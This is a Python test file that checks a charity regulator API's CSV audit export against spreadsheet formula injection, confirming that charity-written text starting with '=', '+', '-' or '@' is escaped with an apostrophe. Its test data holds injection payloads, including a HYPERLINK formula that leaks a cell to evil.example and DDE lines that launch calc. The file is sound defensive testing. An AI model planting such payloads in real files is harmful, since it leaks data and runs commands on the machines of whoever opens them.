"""The regulator's CSV export is safe to open in a spreadsheet: text a charity wrote that
starts like a formula (`=HYPERLINK(...)`, `+cmd|...`, `@SUM(...)`, `-2+3`) is written with
a leading apostrophe, so Excel, LibreOffice and Google Sheets show it as text instead of
running it; the text itself is kept whole after that apostrophe."""

from __future__ import annotations

import csv
import io

from tests.api.checks import wait_for_mirror
from tests.api.service import ADMIN_KEY, Service

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def test_formulas_in_charity_text_are_neutralised_in_the_csv(embedded_service: Service) -> None:
    service = embedded_service
    charity_id, key = service.charity(FORMULAS[0][:100])
    campaign_id = service.campaign(charity_id, key)
    donation = service.donate(campaign_id, key, 10_000)
    wait_for_mirror(service)
    for recipient, purpose in ((FORMULAS[1], FORMULAS[2]), (FORMULAS[3], FORMULAS[0][:128])):
        paid = service.post(
            "/v1/disbursements",
            key,
            json={"campaign_id": campaign_id, "amount": 1_000, "recipient": recipient, "purpose": purpose},
        )
        assert paid.status_code == 201, paid.text
        wait_for_mirror(service)
    refund = service.post(
        f"/v1/donations/{donation['id']}/refunds", key, json={"amount": 100, "reason": FORMULAS[3]}
    )
    assert refund.status_code == 201, refund.text
    wait_for_mirror(service)
    auditor = service.post("/v1/keys", ADMIN_KEY, json={"role": "auditor"}).json()["key"]
    exported = service.get("/v1/audit/export", auditor, params={"format": "csv", "charity_id": charity_id})
    assert exported.status_code == 200, exported.text
    raw = exported.content
    assert raw.startswith(b"\xef\xbb\xbf")  # still a BOM: spreadsheets read the UTF-8 right
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    cells = [cell for row in body for cell in row]
    # No cell of the file starts like a formula ...
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    # ... and every formula the charity wrote is there, whole, after an apostrophe.
    column = {name: header.index(name) for name in ("recipient", "purpose", "reason")}
    written = {row[i] for row in body for i in column.values()}
    for formula in (FORMULAS[1], FORMULAS[2], FORMULAS[3], FORMULAS[0][:128]):
        assert "'" + formula in written, formula
    # Numbers the service writes are left alone.
    amounts = {
        row[header.index("amount")] for row in body if row[header.index("kind")] == "donation_recorded"
    }
    assert amounts == {"10000"}
